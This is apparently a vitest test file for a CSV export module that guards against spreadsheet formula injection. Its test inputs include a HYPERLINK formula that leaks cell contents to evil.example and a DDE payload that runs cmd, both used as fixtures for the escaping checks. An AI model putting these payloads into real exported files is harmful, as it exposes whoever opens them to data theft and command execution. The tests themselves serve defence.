import { describe, expect, it } from "vitest";
import { parseCsv } from "../../test/support/csv.js";
import { exceptionsReportCsv } from "../door/exceptions-report.js";
import { csvRecord, spreadsheetField, toCsv } from "./csv.js";

const attacks = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
];

describe("CSV for people", () => {
  it("puts a ' before every text cell a spreadsheet would run as a formula, and quotes it", () => {
    for (const attack of attacks) {
      const field = spreadsheetField(attack);
      expect(field.startsWith(`"'`), JSON.stringify(attack)).toBe(true);
      expect(parseCsv(`${field}\r\n`)).toEqual([[`'${attack}`]]);
    }
  });

  it("leaves ordinary text, numbers (negative ones too) and empty cells as they were", () => {
    expect(spreadsheetField("Maple Grove")).toBe("Maple Grove");
    expect(spreadsheetField("a, b")).toBe('"a, b"');
    expect(spreadsheetField("O'Neil = ok")).toBe("O'Neil = ok");
    expect(spreadsheetField(-2.5)).toBe("-2.5");
    expect(spreadsheetField(null)).toBe("");
    expect(toCsv(["name", "hours"], [["-x", -1]])).toBe('name,hours\r\n"\'-x",-1\r\n');
  });

  it("neutralizes a pick-up name in the exceptions CSV", () => {
    const csv = exceptionsReportCsv({
      center: { id: "c", name: "C", timeZone: "UTC" },
      date: "2026-11-23",
      generatedAt: "2026-11-23T18:00:00Z",
      totals: { total: 1, open: 1, resolved: 0, byKind: {} },
      items: [
        {
          ref: "hold:1",
          id: 1,
          type: "pickup_hold",
          kind: "unauthorized",
          childId: "child_1",
          childName: "Ada B",
          roomName: null,
          date: "2026-11-23",
          time: "17:05",
          reason: attacks[0]!,
          state: "open",
          resolvedBy: null,
          resolvedAt: null,
          resolution: null,
          eventId: "evt_1",
        },
      ],
    });
    const [, row] = parseCsv(csv);
    expect(row).toContain(`'${attacks[0]}`);
    expect(row?.some((cell) => /^[=+\-@]/.test(cell))).toBe(false);
  });

  it("keeps data records byte-exact (the audit export's hashed fields)", () => {
    expect(csvRecord([attacks[0]!, "-1"])).toBe(
      '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",-1\r\n',
    );
  });
});
